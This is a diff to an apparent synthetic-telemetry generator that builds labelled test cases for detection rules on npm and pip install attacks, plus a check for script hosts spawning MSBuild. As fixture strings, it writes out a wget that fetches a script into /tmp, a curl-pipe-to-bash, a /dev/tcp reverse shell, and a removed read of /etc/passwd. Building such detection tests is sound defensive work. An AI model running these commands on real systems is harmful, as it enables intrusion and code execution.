@@ -107,6 +107,7 @@ class Planned:
     t0: int
     other: Host | None = None
     n_events: int = 0
+    notes: dict[str, Any] = field(default_factory=dict)
     truth: dict[str, Any] = field(default_factory=dict)
 
 
@@ -512,12 +513,16 @@ def dsc_linux_pip(r: Rec, t: int) -> None:
 
 
 def dsc_linux_depth2(r: Rec, t: int) -> None:
+    """npm install -> sh (a clean build script) -> wget http://...: the downloader's direct
+    parent is a shell, so only ancestry at depth 2 ties it to the package manager."""
     ctx = r.ctx
     node = _npm(r, t)
-    mid = r.proc("intermediate", ctx.spawn(node, "node", "node scripts/postinstall.js", t + ctx.secs(3, 8),
+    mid = r.proc("intermediate", ctx.spawn(node, "sh", "sh -c ./scripts/build.sh", t + ctx.secs(3, 8),
+                                           image="/usr/bin/dash",
                                            cwd=f"{_linux_proj(ctx.host)}/node_modules/{C.NPM_PACKAGES[4]}"))
-    r.proc("shell", ctx.spawn(mid, "sh", "/bin/sh -c id; uname -a; cat /etc/passwd", mid.start + ctx.ms(100, 400),
-                              image="/usr/bin/dash"))
+    ip = public_ip(ctx.rng)
+    w = r.proc("download", ctx.spawn(mid, "wget", f"wget http://{ip}/x.sh -O /tmp/.x.sh", mid.start + ctx.ms(100, 400)))
+    r.net("download", w, w.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))
 
 
 def dsc_node_child_only(r: Rec, t: int) -> None:
@@ -616,8 +621,8 @@ def _plan_dependency() -> list[Template]:
                  "npm install -> sh -c 'curl http://... | bash'.", dsc_linux_npm),
         Template(S, "positive", "linux_pip_reverse_shell", LX, True,
                  "pip install (python3) -> sh -c 'bash -i >& /dev/tcp/...'.", dsc_linux_pip),
-        Template(S, "positive", "linux_npm_shell_depth2", LX, False,
-                 "npm install -> node postinstall.js -> sh -c 'id; uname -a' (shell two levels below npm; graph-native only: the seed sees a plain sh under node with no listed pattern).",
+        Template(S, "positive", "linux_npm_wget_depth2", LX, False,
+                 "npm install -> sh -c ./scripts/build.sh -> wget http://... (downloader two levels below npm; graph-native ancestry only: its direct parent is a shell, not a package manager).",
                  dsc_linux_depth2),
         Template(S, "near_miss", "npm_node_child_only", LX, False,
                  "npm install whose only child is node install.js (fails: shell/LOLBin child).", dsc_node_child_only),
@@ -822,6 +827,17 @@ def event_ref(ev: tuple) -> dict[str, Any]:
             "process_unique_id": p.uid, "target": target}
 
 
+SCRIPT_HOSTS = frozenset(("cmd.exe", "powershell.exe", "pwsh.exe", "powershell_ise.exe", "cscript.exe",
+                          "wscript.exe", "mshta.exe"))
+NEW_TERMS_HISTORY = 5 * 24 * 60 * MINUTE  # the Elastic rule's history window
+
+
+def script_msbuild_spawns(events: list[tuple]) -> list[int]:
+    """Times of MSBuild.exe starts whose direct parent is a script host (new_terms input)."""
+    return [e[0] for e in events if e[1] == START and e[2].name.lower() == "msbuild.exe"
+            and e[2].parent is not None and e[2].parent.name.lower() in SCRIPT_HOSTS]
+
+
 def materialise(plan: Planned, ctx: Ctx, other: Ctx | None) -> list[tuple]:
     """Run the template's builder; return its events and fill `plan.truth`."""
     start = len(ctx.out)
@@ -855,5 +871,6 @@ def _truth(plan: Planned, rec: Rec, events: list[tuple]) -> dict[str, Any]:
         "files": rec.files,
         "addresses": rec.addrs,
         "events": [event_ref(e) for e in events],
+        "notes": {**rec.notes, **plan.notes},
         "description": tpl.description,
     }
